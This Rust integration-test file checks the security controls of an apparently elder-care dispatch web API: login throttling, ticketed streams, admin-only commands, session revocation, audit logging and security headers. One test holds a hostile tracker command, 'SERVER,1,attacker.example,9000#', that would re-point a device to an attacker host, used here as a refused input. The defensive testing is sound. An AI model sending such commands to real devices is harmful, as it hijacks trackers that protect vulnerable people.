//! The web side tried from outside, with curl's eyes: no token in URLs, login limits, a health
//! check that tells no secrets, references to missing records answered 4xx, dangerous commands and
//! imports for admins only, password change, disabled operators and expired sessions locked out at
//! once, the audit log, and the security headers.

mod common;

use std::time::Duration;

use common::{Db, TestServer};
use serde_json::{Value, json};

async fn call(
    server: &TestServer,
    method: reqwest::Method,
    path: &str,
    token: Option<&str>,
    body: Option<Value>,
) -> (u16, Value) {
    let mut req = server
        .http
        .request(method, format!("{}{path}", server.base()));
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    if let Some(b) = body {
        req = req.json(&b);
    }
    let res = req.send().await.expect("request");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn operator(server: &TestServer, name: &str, role: &str) -> (i64, String) {
    let (status, body) = server
        .post(
            "/api/v1/operators",
            json!({"name": name, "password": "pass-word-123", "role": role}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    (
        body["id"].as_i64().expect("id"),
        server.login(name, "pass-word-123").await,
    )
}

async fn login_status(server: &TestServer, name: &str, password: &str) -> u16 {
    server
        .http
        .post(format!("{}/api/v1/auth/login", server.base()))
        .json(&json!({"name": name, "password": password}))
        .send()
        .await
        .expect("login")
        .status()
        .as_u16()
}

#[tokio::test]
async fn references_to_missing_records_answer_422_not_500() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let (status, body) = server
        .post(
            "/api/v1/devices",
            json!({"protocol": "gt06", "ident": "860000000000999", "elder_id": 999_999}),
        )
        .await;
    assert_eq!(status, 422, "device for a missing elder: {body}");
    assert_eq!(body["error"]["code"], "unprocessable");
    for path in ["/api/v1/elders", "/api/v1/responders"] {
        let body = if path.ends_with("elders") {
            json!({"name": "甲", "address": "乙", "lat": 27.1, "lon": 114.9, "living": "alone", "grid_id": 999_999})
        } else {
            json!({"name": "丙", "phone": "13800000000", "kind": "volunteer", "home_lat": 27.1, "home_lon": 114.9, "grid_id": 999_999})
        };
        let (status, answer) = server.post(path, body).await;
        assert_eq!(status, 422, "{path} in a missing grid: {answer}");
    }
    assert!(!server.log().contains("internal API error"));
}

#[tokio::test]
async fn healthz_tells_no_database_error_text() {
    let db = Db::postgres().await;
    let server = TestServer::start(&db, &[]).await;
    let url = db.url();
    let name = url.rsplit('/').next().expect("db name").to_string();
    let status = std::process::Command::new("psql")
        .args(["-h", "127.0.0.1", "-U", "postgres", "-d", "test", "-qc"])
        .arg(format!("DROP DATABASE {name} WITH (FORCE)"))
        .status()
        .expect("psql");
    assert!(status.success());
    let res = server
        .http
        .get(format!("{}/healthz", server.base()))
        .send()
        .await
        .expect("healthz");
    assert_eq!(res.status(), 503);
    let text = res.text().await.expect("body");
    let body: Value = serde_json::from_str(&text).expect("json");
    assert_eq!(body["store"]["state"], "down");
    assert_eq!(body["store"]["error"], "unavailable");
    for leak in ["database", "does not exist", "postgres", &name] {
        assert!(!text.contains(leak), "{leak:?} in {text}");
    }
}

#[tokio::test]
async fn tokens_in_urls_are_refused_and_streams_take_single_use_tickets() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let token = server.token.clone();
    for path in [
        format!("/api/v1/incidents?token={token}"),
        format!("/api/v1/stream?token={token}"),
    ] {
        let (status, _) = call(&server, reqwest::Method::GET, &path, None, None).await;
        assert_eq!(status, 401, "{path}");
    }
    let (status, ticket) = server
        .post("/api/v1/auth/ticket", json!({"path": "/api/v1/stream"}))
        .await;
    assert_eq!(status, 200, "{ticket}");
    let ticket = ticket["ticket"].as_str().expect("ticket").to_string();
    let open = |t: String| {
        let server = &server;
        async move {
            tokio::time::timeout(
                Duration::from_secs(5),
                server
                    .http
                    .get(format!("{}/api/v1/stream?ticket={t}", server.base()))
                    .send(),
            )
            .await
            .expect("answer")
            .expect("stream")
            .status()
            .as_u16()
        }
    };
    assert_eq!(open(ticket.clone()).await, 200);
    assert_eq!(open(ticket).await, 401, "a ticket is used once");
    // A responder's ticket does not open the console's stream.
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/auth/ticket",
        None,
        Some(json!({"path": "/api/v1/stream"})),
    )
    .await;
    assert_eq!(status, 401);
}

#[tokio::test]
async fn logins_lock_a_name_after_failures_known_or_not() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    for name in [common::ADMIN, "nobody-here"] {
        let answers: Vec<u16> = {
            let mut v = Vec::new();
            for _ in 0..5 {
                v.push(login_status(&server, name, "wrong-password").await);
            }
            v
        };
        assert_eq!(answers, [401, 401, 401, 401, 429], "{name}");
    }
    assert_eq!(
        login_status(&server, common::ADMIN, common::ADMIN_PASSWORD).await,
        429,
        "locked even with the right password"
    );
}

#[tokio::test]
async fn logins_are_limited_per_address() {
    let db = Db::sqlite();
    // The harness logs in once; three more are allowed, then one every minute.
    let server = TestServer::start(
        &db,
        &[
            ("ONEKEY_LOGIN_BURST", "4"),
            ("ONEKEY_LOGIN_EVERY_MS", "60000"),
        ],
    )
    .await;
    let mut answers = Vec::new();
    for i in 0..4 {
        answers.push(login_status(&server, &format!("user{i}"), "whatever-1").await);
    }
    assert_eq!(answers, [401, 401, 401, 429]);
    assert!(server.metric("onekey_login_throttled_total").await >= 1.0);
}

#[tokio::test]
async fn dangerous_commands_and_imports_are_for_admins_and_audited() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let device = server
        .register_device("gt06", "864717003283581", None, None)
        .await;
    let (_, dispatcher) = operator(&server, "调度员", "dispatcher").await;
    let path = format!("/api/v1/devices/{device}/command");
    let point_away = json!({"command": "text", "text": "SERVER,1,attacker.example,9000#"});
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        &path,
        Some(&dispatcher),
        Some(point_away.clone()),
    )
    .await;
    assert_eq!(status, 403, "a dispatcher may not re-point a device");
    for command in ["set_sos_numbers", "reset", "set_heartbeat"] {
        let body = json!({"command": command, "numbers": ["110"], "arg": 60});
        let (status, _) = call(
            &server,
            reqwest::Method::POST,
            &path,
            Some(&dispatcher),
            Some(body),
        )
        .await;
        assert_eq!(status, 403, "{command}");
    }
    // Routine commands pass (the device is not connected, hence 503); admins may send anything.
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        &path,
        Some(&dispatcher),
        Some(json!({"command": "locate"})),
    )
    .await;
    assert_eq!(status, 503);
    let (status, _) = server.post(&path, point_away).await;
    assert_eq!(status, 503);
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/import",
        Some(&dispatcher),
        None,
    )
    .await;
    assert_eq!(status, 403, "imports are for admins");
    assert!(server.log().contains("command refused: admins only"));
}

#[tokio::test]
async fn disabling_an_operator_ends_their_sessions_at_once() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let (id, token) = operator(&server, "夜班", "dispatcher").await;
    let me = |t: String| {
        let server = &server;
        async move {
            call(
                server,
                reqwest::Method::GET,
                "/api/v1/auth/me",
                Some(&t),
                None,
            )
            .await
        }
    };
    assert_eq!(me(token.clone()).await.0, 200);
    let res = server
        .http
        .put(format!("{}/api/v1/operators/{id}", server.base()))
        .bearer_auth(&server.token)
        .json(&json!({"role": "dispatcher", "disabled": true}))
        .send()
        .await
        .expect("PUT");
    assert_eq!(res.status(), 204);
    assert_eq!(me(token).await.0, 401, "the session is gone");
    assert_eq!(login_status(&server, "夜班", "pass-word-123").await, 401);
}

#[tokio::test]
async fn a_password_change_checks_the_old_one_and_ends_other_sessions() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let (_, first) = operator(&server, "白班", "viewer").await;
    let second = server.login("白班", "pass-word-123").await;
    let change = |current: &str| json!({"current": current, "new": "brand-new-pass"});
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/auth/password",
        Some(&first),
        Some(change("not-it-at-all")),
    )
    .await;
    assert_eq!(status, 403);
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/auth/password",
        Some(&first),
        Some(change("pass-word-123")),
    )
    .await;
    assert_eq!(status, 204);
    let me = |t: String| {
        let server = &server;
        async move {
            call(
                server,
                reqwest::Method::GET,
                "/api/v1/auth/me",
                Some(&t),
                None,
            )
            .await
            .0
        }
    };
    assert_eq!(me(first).await, 200, "the session that changed it goes on");
    assert_eq!(me(second).await, 401, "the others end");
    assert_eq!(login_status(&server, "白班", "pass-word-123").await, 401);
    assert_eq!(login_status(&server, "白班", "brand-new-pass").await, 200);
}

#[tokio::test]
async fn reads_of_an_elder_and_changes_are_in_the_audit_log_for_admins_only() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let (status, elder) = server
        .post(
            "/api/v1/elders",
            json!({"name": "欧阳奶奶", "address": "习溪桥街道 8 号", "lat": 27.1, "lon": 114.9,
                   "living": "alone", "key_safe_code": "4711", "health_notes": "糖尿病"}),
        )
        .await;
    assert_eq!(status, 201);
    let elder_id = elder["id"].as_i64().expect("id");
    let (_, dispatcher) = operator(&server, "调度甲", "dispatcher").await;
    let (_, viewer) = operator(&server, "观察乙", "viewer").await;
    let path = format!("/api/v1/elders/{elder_id}");
    let (status, record) = call(
        &server,
        reqwest::Method::GET,
        &path,
        Some(&dispatcher),
        None,
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(record["key_safe_code"], "4711");
    let (_, as_viewer) = call(&server, reqwest::Method::GET, &path, Some(&viewer), None).await;
    assert_eq!(
        as_viewer["key_safe_code"],
        Value::Null,
        "viewers never see it"
    );
    assert_eq!(as_viewer["health_notes"], "");
    let (_, list) = call(
        &server,
        reqwest::Method::GET,
        "/api/v1/elders",
        Some(&dispatcher),
        None,
    )
    .await;
    assert!(
        !list.to_string().contains("4711"),
        "lists carry no key-safe codes: {list}"
    );

    let (status, _) = call(
        &server,
        reqwest::Method::GET,
        "/api/v1/audit",
        Some(&dispatcher),
        None,
    )
    .await;
    assert_eq!(status, 403);
    let (status, audit) = server
        .get(&format!("/api/v1/audit?target=elder:{elder_id}"))
        .await;
    assert_eq!(status, 200);
    let entries = audit.as_array().expect("entries");
    let reads: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "elder_read")
        .collect();
    assert_eq!(reads.len(), 2, "{audit}");
    assert!(reads.iter().any(|e| e["actor"] == "operator:调度甲"));
    assert!(reads.iter().all(|e| {
        e["peer"]
            .as_str()
            .is_some_and(|p| p.starts_with("127.0.0.1:"))
    }));
    assert!(
        entries
            .iter()
            .any(|e| e["action"] == "elder_created" && e["actor"] == "operator:admin")
    );
    assert!(!audit.to_string().contains("4711"), "no secret in the log");
}

#[tokio::test]
async fn responses_carry_the_security_headers() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    for path in ["/console", "/api/v1/auth/me", "/healthz"] {
        let res = server
            .http
            .get(format!("{}{path}", server.base()))
            .send()
            .await
            .expect("GET");
        let h = res.headers();
        let csp = h["content-security-policy"].to_str().expect("csp");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert!(csp.contains("default-src 'self'"));
        assert_eq!(h["x-frame-options"], "DENY");
        assert_eq!(h["x-content-type-options"], "nosniff");
        assert!(
            h.get("strict-transport-security").is_none(),
            "no HSTS over plain HTTP"
        );
    }
}

#[tokio::test]
async fn bad_path_ids_answer_json() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let res = server
        .http
        .get(format!("{}/api/v1/incidents/not-a-number", server.base()))
        .bearer_auth(&server.token)
        .send()
        .await
        .expect("GET");
    assert_eq!(res.status(), 400);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .expect("type")
            .starts_with("application/json")
    );
    let body: Value = res.json().await.expect("json");
    assert_eq!(body["error"]["code"], "bad_request");
}

#[tokio::test]
async fn a_stream_ends_with_its_session() {
    let db = Db::sqlite();
    let server = TestServer::start(&db, &[]).await;
    let (_, token) = operator(&server, "短班", "viewer").await;
    let (_, ticket) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/auth/ticket",
        Some(&token),
        Some(json!({"path": "/api/v1/stream"})),
    )
    .await;
    let mut stream = server
        .http
        .get(format!(
            "{}/api/v1/stream?ticket={}",
            server.base(),
            ticket["ticket"].as_str().expect("ticket")
        ))
        .send()
        .await
        .expect("stream");
    assert_eq!(stream.status(), 200);
    let (status, _) = call(
        &server,
        reqwest::Method::POST,
        "/api/v1/auth/logout",
        Some(&token),
        None,
    )
    .await;
    assert_eq!(status, 204);
    let ended = tokio::time::timeout(Duration::from_secs(40), async {
        loop {
            match stream.chunk().await {
                Ok(Some(_)) => continue,
                _ => return,
            }
        }
    })
    .await;
    assert!(ended.is_ok(), "the stream outlived its session");
}
